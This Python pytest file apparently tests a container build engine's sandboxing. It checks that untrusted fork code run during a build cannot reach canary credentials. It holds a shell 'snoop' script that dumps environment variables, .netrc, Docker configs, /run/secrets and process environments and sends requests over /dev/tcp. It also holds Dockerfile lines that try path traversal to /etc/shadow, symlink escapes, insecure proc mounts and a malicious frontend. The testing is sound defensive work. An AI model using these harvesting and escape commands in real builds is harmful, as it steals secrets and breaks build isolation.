"""The fork's code really runs, with every credential given to the build: it finds none of them."""

import shutil
from collections.abc import Iterator
from pathlib import Path

import pytest
from dagger_engine import REPO, Done, Engine
from redteam.canaries import Canaries, canaries

FIXTURES = REPO / "tests/fixtures"
LLAMA = (
    *("--entry=cpu-llama-cpp/amd64", "--variant=debian-amd64", "--targets=fallback"),
    f"--third-party={FIXTURES / 'llama.cpp'}",
)
STORE = ("--entry=cpu-local-store/amd64", "--variant=debian-amd64", "--base-image=debian:bookworm")

# Everything that a container's root can look into; what it finds goes to both streams and out.
SNOOP = """\
ask() {{
  exec 3<>"/dev/tcp/$1/{port}" && printf 'GET /from-a-build HTTP/1.0\\r\\n\\r\\n' >&3 && cat <&3
}}
snoop() {{
  env
  cat /root/.netrc /root/.docker/config.json /etc/apt/auth.conf.d/* /run/secrets/*
  cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline | tr '\\0' '\\n'
  cat /proc/self/mountinfo
  find / -xdev \\( -name .netrc -o -name config.json -o -name '*.key' \\) -size -64k |
    xargs -r cat
  for host in 127.0.0.1 host.docker.internal 10.86.255.1 10.87.0.1; do (ask $host); done
  ls -la /run /var/run /.host /
  true
}}
(set +eu; snoop) >/tmp/snooped 2>&1
cat /tmp/snooped >&2
"""


@pytest.fixture
def laid_out(tmp_path: Path) -> Iterator[Canaries]:
    with canaries(tmp_path / "machine") as found:
        yield found


@pytest.fixture
def tree(tmp_path: Path) -> Path:
    shutil.copytree(FIXTURES / "localai", tmp_path / "localai")
    return tmp_path / "localai"


def built(engine: Engine, laid_out: Canaries, tree: Path, *flags: str, out: Path) -> Done:
    """A build that was given every credential there is; its files in ``out``."""
    credentials = (
        f"--mirror-credentials=file://{laid_out.home}/.netrc",
        f"--docker-config=file://{laid_out.home}/.docker/config.json",
    )
    return engine.call(
        "backend", "image", f"--source={tree}", *flags, *credentials,
        "rootfs", "export", f"--path={out}",
    )  # fmt: skip


def with_stage(dockerfile: Path, stage: str, last: str) -> None:
    """``stage`` behind the arguments that stand before every stage, ``last`` in the last stage."""
    text = dockerfile.read_text()
    head, first, rest = text.partition("FROM ")
    assert first, f"{dockerfile} has no stage"
    dockerfile.write_text(f"{head}{stage}{first}{rest}\n{last}\n")


def said(done: Done, out: Path) -> dict[str, str]:
    """All that came out, by where."""
    files = [path for path in out.rglob("*") if path.is_file() and not path.is_symlink()]
    texts = {str(path): path.read_bytes().decode("utf-8", "replace") for path in files}
    return {"stdout": done.stdout, "stderr": done.stderr} | texts


def test_what_a_makefile_runs_while_it_is_compiled_finds_nothing(
    engine: Engine, laid_out: Canaries, tree: Path, tmp_path: Path
) -> None:
    for name in ("prepare.sh", "package.sh"):
        script = tree / "backend/cpp/llama-cpp" / name
        script.write_text(f"{script.read_text()}\n{SNOOP.format(port=laid_out.port)}\n")
    package = tree / "backend/cpp/llama-cpp/package.sh"
    package.write_text(package.read_text() + '\ncp /tmp/snooped "$here/package/snooped"\n')
    done = built(engine, laid_out, tree, *LLAMA, out=tmp_path / "out")
    assert done.returncode == 0, done.stderr[-3000:]
    assert "PATH=" in (tmp_path / "out/snooped").read_text()
    assert laid_out.taken(said(done, tmp_path / "out")) == []


def test_what_a_dockerfile_runs_finds_nothing(
    engine: Engine, laid_out: Canaries, tree: Path, tmp_path: Path
) -> None:
    (tree / "backend/go/local-store/snoop.sh").write_text(SNOOP.format(port=laid_out.port))
    dockerfile = tree / "backend/Dockerfile.golang"
    stage = (
        "FROM debian:bookworm AS snoop\n"
        "COPY backend/go/local-store/snoop.sh /snoop.sh\n"
        "RUN --mount=type=secret,id=netrc --mount=type=secret,id=mirror bash /snoop.sh\n"
    )
    with_stage(dockerfile, stage, "COPY --from=snoop /tmp/snooped /")
    done = built(engine, laid_out, tree, *STORE, out=tmp_path / "out")
    assert done.returncode == 0, done.stderr[-3000:]
    assert "PATH=" in (tmp_path / "out/snooped").read_text()
    assert laid_out.taken(said(done, tmp_path / "out")) == []


@pytest.mark.parametrize(
    "line",
    [
        "ADD http://127.0.0.1:{port}/from-the-engine /taken",
        "RUN --network=host bash -c 'cat </dev/tcp/127.0.0.1/{port}' >/taken; true",
        "RUN --security=insecure mount -t proc p /mnt && cat /mnt/1/environ >/taken",
        "COPY --from=../../.. /etc/shadow /taken",
        "COPY ../../../outside /taken",
        "COPY backend/go/local-store/link /taken",
    ],
)
def test_a_dockerfile_reaches_nothing_beyond_its_context(
    engine: Engine, laid_out: Canaries, tree: Path, tmp_path: Path, line: str
) -> None:
    (tree / "backend/go/local-store/link").symlink_to(laid_out.outside)
    dockerfile = tree / "backend/Dockerfile.golang"
    stage = f"FROM debian:bookworm AS evil\n{line.format(port=laid_out.port)}\n"
    with_stage(dockerfile, stage, "COPY --from=evil /taken /taken")
    done = built(engine, laid_out, tree, *STORE, out=tmp_path / "out")
    assert laid_out.taken(said(done, tmp_path / "out")) == []
    if "/link" not in line:
        assert done.returncode != 0, f"it was done: {line}"


def test_a_frontend_that_a_dockerfile_names_is_not_run(
    engine: Engine, laid_out: Canaries, tree: Path, tmp_path: Path
) -> None:
    """BuildKit would pull it and hand it the build."""
    dockerfile = tree / "backend/Dockerfile.golang"
    dockerfile.write_text(f"# syntax=127.0.0.1:{laid_out.port}/frontend\n{dockerfile.read_text()}")
    done = built(engine, laid_out, tree, *STORE, out=tmp_path / "out")
    assert done.returncode != 0
    assert laid_out.taken(said(done, tmp_path / "out")) == []


def test_a_cache_mounts_name_is_no_path_on_the_machine(
    engine: Engine, laid_out: Canaries, tree: Path, tmp_path: Path
) -> None:
    dockerfile = tree / "backend/Dockerfile.golang"
    up = "../" * 12 + str(laid_out.home).lstrip("/")
    stage = (
        "FROM debian:bookworm AS evil\n"
        f"RUN --mount=type=cache,id={up},target=/c cp -r /c /taken && ls -laR /taken\n"
    )
    with_stage(dockerfile, stage, "COPY --from=evil /taken /taken")
    done = built(engine, laid_out, tree, *STORE, out=tmp_path / "out")
    assert laid_out.taken(said(done, tmp_path / "out")) == []


@pytest.mark.parametrize("path", ["matrix/backends.yaml", ".github/backend-matrix.yml"])
def test_a_table_that_is_a_link_out_of_the_tree_shows_nothing(
    engine: Engine, laid_out: Canaries, tree: Path, tmp_path: Path, path: str
) -> None:
    (tree / path).parent.mkdir(exist_ok=True)
    (tree / path).symlink_to(laid_out.outside)
    done = built(engine, laid_out, tree, *STORE, out=tmp_path / "out")
    planned = engine.call("plan", f"--source={tree}", "contents")
    checked = engine.call("check", f"--source={tree}")
    for each in (done, planned, checked):
        assert laid_out.taken(said(each, tmp_path / "out")) == []
